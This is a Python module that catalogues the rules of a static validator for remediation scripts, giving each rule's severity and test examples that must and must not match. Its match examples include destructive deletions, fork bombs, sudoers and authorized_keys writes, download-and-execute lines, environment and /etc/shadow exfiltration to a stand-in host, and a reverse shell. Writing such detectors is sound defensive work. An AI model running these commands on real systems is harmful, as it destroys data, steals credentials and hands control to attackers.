"""Catalogue of the Python validator's own rules: severity, what each catches, examples that must and must not match.

tests/validation/test_python.py runs every example; docs/rules/python.md is written from this table.
Bandit's findings (``bandit.Bxxx``) and the embedded SQL/bash findings (``sql.*``, ``bash.*``) are
catalogued by their own validators.
"""

from __future__ import annotations

from remediation.validation.bash_rules import SCOPE_EXAMPLE_CONTEXT as BASH_SCOPE_EXAMPLE_CONTEXT
from remediation.validation.sql_rules import RuleDoc, catalogue_markdown
from remediation.validation.types import Severity, ValidationContext

C, H, M, L = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW

RULES: dict[str, RuleDoc] = {
    "syntax.python": RuleDoc(
        C,
        "The script (or constant text given to exec/eval) does not parse as Python 3.",
        ("def f(:\n    pass", "x = (" * 300 + ")" * 300),
        ("print('ok')",),
    ),
    "python.rmtree_root": RuleDoc(
        C,
        "shutil.rmtree / os.remove / Path.unlink ... of a root-like path: /, /home, /var, ~, a top-level directory.",
        (
            "import shutil\nshutil.rmtree('/')",
            "from shutil import rmtree as tidy\ntidy('/etc')",
            "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))",
        ),
        ("import shutil\nshutil.rmtree('/tmp/job-123')",),
    ),
    "python.delete_system_path": RuleDoc(
        C,
        "Deleting (or moving away) anything under system or database trees: /etc, /usr, /boot, /var/lib/postgresql, /var/lib/mysql, "
        "/var/lib/docker, /root ...",
        (
            "import os\nos.remove('/etc/passwd')",
            "from pathlib import Path\nPath('/etc/shadow').unlink()",
            "__import__('shutil').rmtree('/var/lib/postgresql')",
        ),
        (
            "import os\nos.remove('/var/cache/myapp/blob.bin')",
            "import os\ndef drop(path):\n    os.remove(path)\ndrop('/opt/app/stale.lock')",
            "import shutil\nshutil.move('/opt/app/a.log', '/opt/app/old/')",
        ),
    ),
    "python.delete_computed_path": RuleDoc(
        H,
        "Recursive delete of a path computed at run time (or files directly under a top-level directory); "
        "a single-file delete of a computed path is MEDIUM.",
        (
            "import os, shutil\nbase = os.environ.get('APP_DIR', '')\nshutil.rmtree(os.path.join(base, 'cache'))",
            "import shutil, sys\ndef clean(p):\n    shutil.rmtree(p)\nclean('/opt/app/tmp')\nclean(sys.argv[1])",
            "import glob, os\nfor f in glob.glob('/var/log/*.gz'):\n    os.remove(f)",
        ),
        (
            "import glob, os\nfor f in glob.glob('/var/log/app/*.gz'):\n    os.remove(f)",
            "import os\nCACHE = '/var/cache/myapp'\nfor n in os.listdir(CACHE):\n    os.remove(os.path.join(CACHE, n))",
        ),
    ),
    "python.walk_delete": RuleDoc(
        C,
        "Hand-rolled recursive delete: os.walk over a root-like, system or computed directory with remove/unlink.",
        ("import os\nfor r, d, f in os.walk('/'):\n    for x in f:\n        os.remove(os.path.join(r, x))",),
        (
            "import os\nfor r, d, f in os.walk('/var/tmp/app-uploads'):\n    for x in f:\n        os.remove(os.path.join(r, x))",
        ),
    ),
    "python.shell_exec": RuleDoc(
        M,
        "os.system / os.popen / subprocess with shell=True: MEDIUM for a constant command (also checked as bash), "
        "HIGH for a command built at run time.",
        ("import os\nos.system('ls')", "import subprocess, sys\nsubprocess.run(sys.argv[1], shell=True)"),
        ("import subprocess\nsubprocess.run(['systemctl', 'restart', 'nginx'], check=True)",),
    ),
    "python.destructive_command": RuleDoc(
        C,
        "A destructive command line in argv lists or shell strings (rm -rf of system paths, mkfs, dd to devices, "
        "kubectl delete ns, iptables -F, shutdown, userdel, kill -1, terraform destroy ...). The bash validator "
        "checks the same command line when it is installed.",
        (
            "import subprocess\nsubprocess.run(['kubectl', 'delete', 'namespace', 'prod'])",
            "import subprocess as sp\nARGS = ['rm', '-rf', '/var/lib/mysql']\nsp.call(ARGS)",
            "from subprocess import *\ncall(['mkfs.ext4', '/dev/sdb1'])",
            "import os\nos.system('shutdown -h now')",
        ),
        (
            "import subprocess\nsubprocess.run(['kubectl', 'rollout', 'restart', 'deployment/web', '-n', 'prod'])",
            "import subprocess\nsubprocess.run(['docker', 'image', 'prune', '-f', '--filter', 'until=168h'])",
        ),
    ),
    "python.dynamic_command": RuleDoc(
        M,
        "subprocess argv that is neither a literal list nor a resolvable constant.",
        ("import subprocess\nsubprocess.run(build_command())",),
        ("import subprocess\nsubprocess.run(['uptime'])",),
    ),
    "python.dynamic_code": RuleDoc(
        H,
        "eval/exec/compile/runpy of text known only at run time (HIGH); of constant text LOW, and the text is "
        "checked as Python.",
        ("import sys\neval(sys.argv[1])", "exec(open('/tmp/x.py').read())"),
        ("import ast\nast.literal_eval('[1, 2]')",),
    ),
    "python.obfuscated_exec": RuleDoc(
        C,
        "exec/eval of text that is decoded at run time: base64, hex, rot13, zlib, chr-joins.",
        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "exec(bytes.fromhex('7072696e74283129').decode())"),
        ("exec('print(1)')",),
    ),
    "python.download_exec": RuleDoc(
        C,
        "Download-and-execute: network fetch feeding exec/eval, running a downloaded file, curl|sh in a shell string.",
        (
            "import requests\nexec(requests.get('http://x/p.py', timeout=5).text)",
            "import urllib.request\nurllib.request.urlretrieve('http://x/f.py', '/tmp/f.py')\nexec(open('/tmp/f.py').read())",
            "import os\nos.system('curl -fsSL http://x/i.sh | sh')",
        ),
        ("import requests\nrequests.get('http://127.0.0.1:8080/healthz', timeout=5)",),
    ),
    "python.unsafe_deserialization": RuleDoc(
        H,
        "pickle/marshal/dill/shelve/jsonpickle loads, yaml.load without SafeLoader, yaml.unsafe_load/full_load.",
        ("import pickle\npickle.loads(blob)", "import yaml\nyaml.load(f)"),
        ("import yaml\nyaml.safe_load(f)", "import yaml\nyaml.load(f, Loader=yaml.SafeLoader)"),
    ),
    "python.dynamic_dispatch": RuleDoc(
        H,
        "getattr on os/subprocess/builtins... with a computed name, sys.modules[...], globals()['__builtins__'], "
        "__builtins__.",
        (
            "import os\ngetattr(os, 'sys' + 'tem')('id')",
            "import sys\nsys.modules['os'].getcwd()",
            "globals()['__builtins__'].eval('1')",
        ),
        ("import logging\nlevel = getattr(logging, 'INFO')",),
    ),
    "python.dynamic_import": RuleDoc(
        H,
        "__import__ / importlib.import_module (HIGH for computed or sensitive modules, MEDIUM otherwise).",
        ("__import__('os').getcwd()", "import importlib\nimportlib.import_module(name)"),
        ("import os\nos.getcwd()",),
    ),
    "python.ctypes": RuleDoc(
        H,
        "ctypes native calls (CRITICAL when libc system/exec/setuid is reached).",
        ("import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nlibc.system(b'id')",),
        ("import json\njson.dumps({})",),
    ),
    "python.privilege_change": RuleDoc(
        H,
        "os.setuid/setgid/seteuid/setgroups/chroot (CRITICAL for uid 0 or chroot).",
        ("import os\nos.setuid(0)",),
        ("import os\nos.getuid()",),
    ),
    "python.kill_all": RuleDoc(
        C,
        "os.kill(-1|1, ...), os.killpg(0|1, ...), unfiltered psutil/proc kill loops (os.kill(0, ...) is MEDIUM).",
        (
            "import os, signal\nos.kill(-1, signal.SIGKILL)",
            "import psutil\nfor p in psutil.process_iter():\n    p.kill()",
            "import psutil\n[p.kill() for p in psutil.process_iter()]",
        ),
        (
            "import psutil\nfor p in psutil.process_iter(['name']):\n    if p.info['name'] == 'celery':\n        p.terminate()",
            "import os, signal\nos.kill(4242, signal.SIGHUP)",
        ),
    ),
    "python.fork_bomb": RuleDoc(
        C,
        "An endless loop (while True without break) creating processes or threads.",
        ("import os\nwhile True:\n    os.fork()",),
        ("import os\nwhile True:\n    pid = os.fork()\n    break",),
    ),
    "python.resource_exhaustion": RuleDoc(
        H,
        "Builds a sequence of more than 10**9 elements ('a' * 10**12).",
        ("x = 'a' * 10**12",),
        ("x = 'a' * 1024",),
    ),
    "python.permission_system_path": RuleDoc(
        C,
        "os.chmod/chown/lchown, shutil.chown, Path.chmod of system or root-like paths.",
        ("import os\nos.chmod('/etc/shadow', 0o777)", "import os\nos.chown('/', 65534, 65534)"),
        ("import os\nos.chmod('/opt/app/bin/run.sh', 0o755)",),
    ),
    "python.chmod_world_writable": RuleDoc(
        H,
        "chmod to a world-writable or setuid/setgid mode.",
        ("import os\nos.chmod('/opt/app/data', 0o777)", "import os\nos.chmod('/opt/app/tool', 0o4755)"),
        ("import os\nos.chmod('/opt/app/data', 0o750)",),
    ),
    "python.write_sensitive_file": RuleDoc(
        C,
        "Writes to sudoers, passwd/shadow, authorized_keys, ld.so.preload, cron, profile/bashrc, sshd/pam config.",
        (
            "open('/etc/sudoers', 'a').write('x ALL=(ALL) NOPASSWD:ALL')",
            "import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a')",
            "from pathlib import Path\nPath('/etc/ld.so.preload').write_text('/tmp/x.so')",
        ),
        ("open('/tmp/report.txt', 'w').write('ok')", "open('/etc/sudoers').read()"),
    ),
    "python.write_system_path": RuleDoc(
        H,
        "Writes, copies or moves files into other system trees (/etc, /usr, /boot, database directories).",
        ("open('/etc/nginx/conf.d/app.conf', 'w')", "import shutil\nshutil.copy('/tmp/x', '/usr/local/bin/x')"),
        ("open('/opt/app/config.yaml', 'w')",),
    ),
    "python.secret_file_read": RuleDoc(
        H,
        "Reads credential files: /etc/shadow, SSH private keys, ~/.aws/credentials, kube config, .pgpass ...",
        ("open('/etc/shadow').read()", "import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()"),
        ("open('/etc/hostname').read()", "open('/home/app/.ssh/id_rsa.pub').read()"),
    ),
    "python.exfiltration": RuleDoc(
        C,
        "Sends the whole environment or a credential file's content over the network.",
        (
            "import requests, os\nrequests.post('http://x', json=dict(os.environ))",
            "import requests\nrequests.post('http://x', data=open('/etc/shadow').read())",
            "import os, json, urllib.request\nbody = json.dumps(dict(os.environ)).encode()\n"
            "urllib.request.urlopen('http://x', data=body)",
        ),
        ("import os, requests\nrequests.post(os.environ['SLACK_WEBHOOK'], json={'text': 'done'}, timeout=5)",),
    ),
    "python.reverse_shell": RuleDoc(
        C,
        "A socket connection wired to a shell: socket + os.dup2 / pty.spawn.",
        (
            "import socket, os, pty\ns = socket.socket()\ns.connect(('1.2.3.4', 4444))\nos.dup2(s.fileno(), 0)\n"
            "pty.spawn('/bin/sh')",
        ),
        ("import socket\nsocket.create_connection(('127.0.0.1', 5432), timeout=3).close()",),
    ),
    "python.interactive_shell": RuleDoc(
        H,
        "pty.spawn of an interactive program.",
        ("import pty\npty.spawn('/bin/bash')",),
        ("import subprocess\nsubprocess.run(['uptime'])",),
    ),
    "python.tls_verify_disabled": RuleDoc(
        M,
        "verify=False on HTTP clients, or an unverified SSL context.",
        ("import requests\nrequests.get('https://x', verify=False, timeout=5)",),
        ("import requests\nrequests.get('https://x', verify='/etc/ssl/internal-ca.pem', timeout=5)",),
    ),
    "python.sql_injection": RuleDoc(
        H,
        "SQL built with f-strings, %, + or .format() passed to execute(); its shape is also checked as SQL.",
        ("cur.execute(f'DELETE FROM {table}')", "cur.execute('SELECT * FROM t WHERE id = ' + user_id)"),
        (
            "cur.execute('SELECT * FROM t WHERE id = %s', (user_id,))",
            "from psycopg import sql\ncur.execute(sql.SQL('VACUUM (ANALYZE) {}').format(sql.Identifier(table)))",
        ),
    ),
    "python.embedded_sql_unparsed": RuleDoc(
        L,
        "Constant SQL in execute() that the PostgreSQL grammar rejects (reported, not failed).",
        ("cur.execute('SELEC 1')",),
        ("cur.execute('SELECT 1')",),
    ),
    "python.too_complex": RuleDoc(H, "The syntax tree is too deep to check statically.", (), ()),
    "python.validator_error": RuleDoc(H, "A rule crashed on this input; the script is failed closed.", (), ()),
}

#: The same example allow-lists as the bash scope rules (the two share path and host checks).
SCOPE_EXAMPLE_CONTEXT = BASH_SCOPE_EXAMPLE_CONTEXT

#: Rules that compare what the script touches with the service's allow-lists
#: (:mod:`remediation.validation.python_scope`); silent while the matching list is empty.
SCOPE_RULES: dict[str, RuleDoc] = {
    "scope.path": RuleDoc(
        M,
        "Writes, deletes, moves, chmods/chowns or truncates a path outside every allowed path: open(..., 'w'/'a'/'x'), "
        "os.remove/unlink/rename/replace/chmod/chown, shutil.rmtree/move/copy destinations, Path.write_text/unlink/"
        "chmod, and paths in subprocess argv (judged by the bash rules). /tmp and tempfile.mkdtemp() are always "
        "allowed; a path known only at run time, or relative, fires too.",
        (
            "open('/etc/app.conf', 'w').write('x')",
            "import os\nos.remove('/var/lib/other/cache.db')",
            "import shutil\nshutil.copy('/opt/app/app.conf', '/srv/backup/app.conf')",
            "import shutil\nshutil.move('/etc/app.conf', '/opt/app/app.conf')",
            "from pathlib import Path\nPath('/srv/data/flag').write_text('1')",
            "import shutil\nshutil.rmtree('/opt/app/../other')",
            "import sys\nopen(sys.argv[1], 'a').write('x')",
            "import subprocess\nsubprocess.run(['rm', '-f', '/etc/app.conf'], check=True)",
            "import subprocess, sys\nsubprocess.run(['truncate', '-s', '0', sys.argv[1]], check=True)",
        ),
        (
            "open('/opt/app/state.json', 'w').write('{}')",
            "import os\nos.remove('/var/log/app/old.log')",
            "open('/etc/hostname').read()",
            "import os, tempfile\nd = tempfile.mkdtemp()\nopen(os.path.join(d, 'x'), 'w').write('x')",
            "from pathlib import Path\np = Path('/opt/app') / 'flag'\np.write_text('1')",
            "import os, sys\nopen(os.path.join('/var/log/app', sys.argv[1]), 'w')",
            "import subprocess\nsubprocess.run(['rm', '-f', '/opt/app/stale.lock'], check=True)",
        ),
    ),
    "scope.host": RuleDoc(
        M,
        "Connects to a host outside the allowed hosts: requests/httpx/urllib/urllib3 URLs (sessions too), "
        "http.client, socket.create_connection, smtplib/ftplib hosts, and commands started through subprocess. "
        "Loopback is always allowed; a URL whose host is known only at run time fires.",
        (
            "import requests\nrequests.get('https://status.other.example/api', timeout=5)",
            "import urllib.request\nurllib.request.urlopen('http://mirror.example.org/x')",
            "import requests, os\nrequests.post(os.environ['HOOK_URL'], json={}, timeout=5)",
            "import socket\nsocket.create_connection(('cache.other.internal', 6379), timeout=3)",
            "import requests\ns = requests.Session()\ns.get('https://x.other.example/z', timeout=5)",
            "import subprocess\nsubprocess.run(['curl', '-fsS', 'https://status.other.example'], check=True)",
        ),
        (
            "import requests\nrequests.get('https://api.shop.internal/health', timeout=5)",
            "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:8080/healthz')",
            "import requests\nn = 3\nrequests.get(f'https://api.shop.internal/v1/orders/{n}', timeout=5)",
            "import http.client\nhttp.client.HTTPConnection('web.shop.svc.cluster.local', 8080)",
        ),
    ),
}


def _scope_section(rules: dict[str, RuleDoc], context: ValidationContext) -> str:
    """The scope rules as a table inside the intro (the main table renders RULES only)."""
    table = catalogue_markdown("", "", rules).split("\n", 3)[3].strip()
    lists = ", ".join(
        f"{name}={getattr(context, name)!r}"
        for name in ("allowed_paths", "allowed_hosts", "allowed_namespaces", "allowed_databases")
    )
    return (
        "## Access scope rules\n\n"
        "These fire only when the service sets the matching allow-list (an empty list means no restriction "
        f"known). Their examples are checked with {lists}.\n\n{table}\n\n## Rules\n"
    )


_INTRO_TEXT = """Generated by `python -m remediation.validation.python_rules > docs/rules/python.md` (the examples are run by
`tests/validation/test_python.py`). The script is parsed with the stdlib `ast` (never run). Our own
visitor resolves import aliases (`from os import system as s`, `import subprocess as sp`, `f = os.system`,
`__import__('os')`, `getattr(os, 'sys' + 'tem')`, `sys.modules['os']`) and folds constant strings
(concatenation, f-strings, `"".join`, `chr`, slicing, base64/hex/rot13/zlib decoding). Command lines run
through subprocess/os.system are rebuilt and validated by the bash validator when it is installed, and by a
small fallback list always; SQL passed to `cursor.execute` / `conn.execute` / `psql -c` goes through the SQL
validator (its findings keep their `sql.*` rule ids). Bandit runs as a library on the same text (`# nosec`
ignored) and adds `bandit.Bxxx` findings: B404/B603/B607/B108/B101/B113 and other ops noise are INFO,
B104/B310/B324/B501 and similar are LOW, the rest keep Bandit's severity.

Strictness: HIGH fails on medium and above, MEDIUM on high and above, LOW on critical only.
"""
INTRO = _INTRO_TEXT + "\n" + _scope_section(SCOPE_RULES, SCOPE_EXAMPLE_CONTEXT)

if __name__ == "__main__":  # python -m remediation.validation.python_rules > docs/rules/python.md
    print(catalogue_markdown("Python validator rules", INTRO, RULES), end="")
